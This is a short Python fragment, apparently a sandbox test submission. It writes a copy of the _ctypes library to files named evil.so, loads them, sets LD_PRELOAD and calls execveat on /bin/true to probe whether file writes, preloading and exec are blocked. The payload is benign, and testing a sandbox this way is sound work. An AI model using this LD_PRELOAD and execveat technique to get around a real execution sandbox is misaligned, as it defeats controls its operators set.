# begins with raw.py
def solve(x):
    for name in ('evil.so', '/tmp/evil.so', '/dev/shm/evil.so'):
        try:
            with open(name, 'wb') as file:
                file.write(open(sys.modules['_ctypes'].__file__, 'rb').read())
            ctypes.CDLL(os.path.abspath(name))
        except (OSError, AttributeError):
            pass
    os.environ['LD_PRELOAD'] = os.path.abspath('evil.so')
    syscall('execveat', -100, b'/bin/true', (ctypes.c_char_p * 2)(b'true', None), (ctypes.c_char_p * 2)(b'LD_PRELOAD=./evil.so', None), 0)
    return 1
